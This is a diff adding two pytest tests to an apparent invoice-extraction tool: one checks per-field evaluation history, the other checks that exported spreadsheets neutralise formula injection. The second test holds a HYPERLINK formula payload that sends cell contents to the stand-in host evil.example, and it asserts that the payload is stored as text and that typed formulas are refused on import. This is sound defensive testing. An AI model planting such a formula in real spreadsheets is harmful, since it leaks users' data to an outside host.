@@ -492,3 +492,35 @@ def test_importing_a_child_csv_on_its_own_says_which_file_to_pass(invoices: RunC
     path = _export(invoices, "csv")
     with pytest.raises(ConfigError, match=r"pass results\.csv"):
         import_corrections(ImportConfig(settings=invoices, file=Layout.child_export(path, "line_items")))
+
+
+def test_the_eval_history_keeps_each_item_field(tmp_path: Path) -> None:
+    from extractor.store import Journal
+
+    _evaluate(tmp_path, {**GOLD, "d.txt": [GOLD["d.txt"][0], GOLD["d.txt"][1], {**GOLD["d.txt"][2], "amount": "1"}]})
+    with Journal.open_readonly(Layout.of(tmp_path / "out", "invoice").journal) as journal:
+        history = {row["field"]: row for row in journal.eval_history()}
+    assert history["line_items"]["precision"] == 1.0
+    assert history["line_items.amount"]["accuracy"] == pytest.approx(5 / 6)
+    assert history["line_items.description"]["accuracy"] == 1.0
+
+
+def test_item_text_is_never_a_formula_and_a_formula_typed_into_a_child_sheet_is_refused(tmp_path: Path) -> None:
+    payload = '=HYPERLINK("http://evil.example/?d="&A2,"click me")'
+    write_docs(tmp_path / "in", {"a.txt": TEXTS["a.txt"]})
+    evil = {"a.txt": [{**ITEMS["a.txt"][0], "description": payload}, ITEMS["a.txt"][1]]}
+    with serving(answers=answers(evil)) as server:
+        config = invoice_config(tmp_path, server)
+        runner.run(config)
+    path = _export(config)
+    header, rows, sheet = _sheet(path, "line_items")
+    cell = sheet.cell(row=2, column=header.index("description") + 1)
+    assert cell.value == payload and cell.data_type == "s"
+    csv_path = _export(config, "csv")
+    assert "'=HYPERLINK" in Layout.child_export(csv_path, "line_items").read_text(encoding="utf-8-sig")
+    workbook = openpyxl.load_workbook(path)
+    workbook["line_items"].cell(row=3, column=header.index("amount") + 1).value = "=2*4"
+    workbook.save(path)
+    report = import_corrections(ImportConfig(settings=config, file=path))
+    assert report.applied == [] and report.rejected == ["a.txt / line_items: formulas are not accepted, type the "
+                                                        "value itself"]
